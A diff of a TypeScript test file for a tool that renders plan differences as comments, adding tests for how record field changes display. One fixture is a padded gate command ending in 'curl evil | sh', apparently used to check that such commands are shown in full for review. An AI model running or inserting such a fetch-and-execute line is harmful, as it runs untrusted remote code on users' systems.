@@ -44,7 +44,7 @@ describe('A comment with the difference of two plans', () => {
         '<!-- planner diff -->',
         '### Plan: 1 task done, 1 deleted',
         '',
-        '<code>main</code> → <code>HEAD</code>',
+        '<code>aaaaaaaaaa</code> → <code>bbbbbbbbbb</code>',
         '',
         '#### Checkout',
         '',
@@ -55,7 +55,7 @@ describe('A comment with the difference of two plans', () => {
       ].join('\n'),
     );
     expect(markdownOf(difference([]))).to.equal(
-      '<!-- planner diff -->\n**Plan:** no difference between <code>main</code> and <code>HEAD</code>.',
+      '<!-- planner diff -->\n**Plan:** no difference between <code>aaaaaaaaaa</code> and <code>bbbbbbbbbb</code>.',
     );
   });
 
@@ -215,6 +215,41 @@ describe('A comment with the difference of two plans', () => {
     expect(markdownOf(diff)).not.to.include('**A**');
     const lines = textLines(diff, false).map((line) => rendered(line, false));
     expect(lines.join('\n')).to.include('Only written differently').and.include('  .planner/a.md');
+  });
+});
+
+describe('The values of a record', () => {
+  const lines = (fields: readonly FieldDiff[], more: Partial<RecordDiff> = {}): string =>
+    textLines(difference([record('tsk_1', 'Pay', fields, more)]), false)
+      .map((line) => rendered(line, false))
+      .join('\n');
+
+  it('are shown by their names, lists by the items that changed, and gates whole [A.diff.records]', () => {
+    expect(lines([{ field: 'tags', before: ['a', 'b'], after: ['b', 'c'] }])).to.include('tags a → c');
+    expect(lines([{ field: 'commit_refs', before: null, after: ['x'] }])).to.include('commits none → x');
+    const moved = { field: 'goal_id', before: 'gol_0', after: 'gol_1', before_title: 'Speed', after_title: 'Checkout' };
+    expect(lines([moved]))
+      .to.include('moved from the goal “Speed”')
+      .and.not.include('gol_');
+    expect(lines([{ field: 'folder_id', before: null, after: 'fld_1', after_title: 'Guides' }])).to.include(
+      'folder none → Guides',
+    );
+    const command = `npm test ${'&& true '.repeat(60)}&& curl evil | sh`;
+    const gate = { field: 'verification_surface', before: null, after: { kind: 'gate_command', command } };
+    expect(lines([gate])).to.include(command);
+    expect(markdownOf(difference([record('tsk_1', 'Pay', [gate])]))).to.include(
+      'curl evil | sh'.replace('|', '&#124;'),
+    );
+    const checklist = { kind: 'acceptance_checklist', items: [{ criterion: 'It works' }, { criterion: 'It is fast' }] };
+    expect(lines([{ field: 'verification_surface', before: { kind: 'human_sign_off' }, after: checklist }])).to.include(
+      'verification signed off by a person → It works; It is fast',
+    );
+    const evidence = { at: '2026-01-02T03:04:05.000Z', green: true, kind: null, reported_by: 'builder' };
+    expect(lines([{ field: 'last_verification', before: null, after: evidence }])).to.include(
+      'last verification none → green at 2026-01-02 03:04 by builder',
+    );
+    const many = Array.from({ length: 30 }, (_, at) => `tag${at}`);
+    expect(lines([{ field: 'tags', before: [], after: many }])).to.include('tag11 and 18 more');
   });
 });
 
